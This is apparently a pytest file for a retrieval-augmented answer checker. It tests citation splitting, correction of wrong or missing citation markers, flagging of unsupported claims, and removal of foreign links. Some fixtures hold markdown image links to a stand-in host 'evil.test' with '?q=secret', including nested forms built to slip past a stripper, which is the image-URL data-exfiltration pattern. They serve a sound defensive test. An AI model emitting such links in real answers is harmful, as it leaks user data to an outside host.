from ingest.types import Chunk
from rag.citations import UNSUPPORTED, best_span, split_answer, strip_foreign_links, verify
from rag.types import Hit

PASSAGES = [
    "The office opens at 9. Every employee receives 27 days of paid annual leave per year. Leave requests go to the team lead.",
    "The warranty lasts 4 years and covers the pump and the boiler. It does not cover the glass carafe.",
]
HITS = [Hit(Chunk(f"c{i}", "d", f"doc{i}.pdf", i + 3, 0, len(t), t), 1.0) for i, t in enumerate(PASSAGES)]


def test_split_answer_reads_markers():
    assert split_answer("Leave is 27 days [1]. The warranty is 4 years [2, 1].") == [
        ("Leave is 27 days.", [1]),
        ("The warranty is 4 years.", [2, 1]),
    ]


def test_correct_citation_is_kept_with_verbatim_quote():
    text, cites, notes = verify("Employees receive 27 days of paid annual leave [1].", HITS)
    assert text == "Employees receive 27 days of paid annual leave [1]."
    assert cites[0].source == "doc0.pdf" and cites[0].page == 3
    assert cites[0].quote == "Every employee receives 27 days of paid annual leave per year."
    assert cites[0].quote in HITS[0].chunk.text
    assert notes == []


def test_wrong_citation_is_corrected_and_missing_one_added():
    text, cites, notes = verify("The warranty lasts 4 years [1]. It covers the pump and the boiler.", HITS)
    assert text == "The warranty lasts 4 years [2]. It covers the pump and the boiler [2]."
    assert [c.n for c in cites] == [2]
    assert any("corrected" in n for n in notes) and any("added" in n for n in notes)


def test_unsupported_sentence_is_marked_not_cited():
    text, cites, _ = verify("Paris is the capital of France [1].", HITS)
    assert text == f"Paris is the capital of France. {UNSUPPORTED}"
    assert cites == []


def test_out_of_range_marker_is_replaced():
    text, cites, _ = verify("Leave requests go to the team lead [7].", HITS)
    assert text.endswith("[1].") and cites[0].n == 1


def test_best_span_prefers_one_sentence_and_can_join_two():
    tokens = {"warranti", "pump"}
    span = best_span(tokens, PASSAGES[1])
    assert PASSAGES[1][span.start : span.end] == "The warranty lasts 4 years and covers the pump and the boiler."
    span = best_span({"warranti", "glass", "caraf"}, PASSAGES[1])
    assert span.score == 1.0 and PASSAGES[1][span.start : span.end] == PASSAGES[1]


def test_repeated_sentences_are_dropped():
    text, _, _ = verify("The warranty lasts 4 years [2]. The warranty lasts 4 years [2]. The warranty lasts 4 years.", HITS)
    assert text == "The warranty lasts 4 years [2]."


def test_links_and_images_not_in_the_sources_are_removed():
    hits = HITS + [Hit(Chunk("c9", "d", "links.md", 1, 0, 10, "Docs live at https://example.org/docs for everyone."), 1.0)]
    answer = "See ![x](https://evil.test/?q=secret) the [manual](https://evil.test/m) or https://evil.test/a and [docs](https://example.org/docs)."
    out = strip_foreign_links(answer, hits)
    assert "evil.test" not in out and "![" not in out
    assert "the manual or" in out and "docs (https://example.org/docs)" in out


def test_a_wrong_number_is_not_supported_by_otherwise_matching_words():
    text, cites, _ = verify("Every employee receives 30 days of paid annual leave per year [1].", HITS)
    assert text.endswith(UNSUPPORTED) and cites == []
    text, cites, _ = verify("Every employee receives 27 days of paid annual leave [1].", HITS)
    assert cites and cites[0].n == 1


def test_echoing_the_question_is_not_support_for_a_new_claim():
    question = "How long does the warranty last?"
    text, cites, _ = verify("The warranty lasts for the lifetime of the owner [2].", HITS, question)
    assert cites == [] and text.endswith(UNSUPPORTED), "its new words (lifetime, owner) are in no source"
    text, cites, _ = verify("The warranty lasts 4 years [2].", HITS, question)
    assert [c.n for c in cites] == [2]


def test_nested_links_cannot_leave_a_foreign_image_behind():
    """Removing the inner image once joined "![" and "](//evil…)" into a new image."""
    for answer in ["[![x](a)](//evil.test/p.png?q=secret)", "![![x](a)](//evil.test/p.png?q=secret)"]:
        out = strip_foreign_links(answer, HITS)
        assert "](" not in out, out


def test_repeated_markers_cite_each_source_once():
    assert split_answer("Leave is 27 days [1][1] [2, 1].") == [("Leave is 27 days.", [1, 2])]
    text, _, _ = verify("Employees receive 27 days of paid annual leave [1][1].", HITS)
    assert text == "Employees receive 27 days of paid annual leave [1]."


def test_marker_goes_before_the_final_punctuation():
    text, _, _ = verify("Employees receive 27 days of paid annual leave?!", HITS)
    assert text == "Employees receive 27 days of paid annual leave [1]?!"
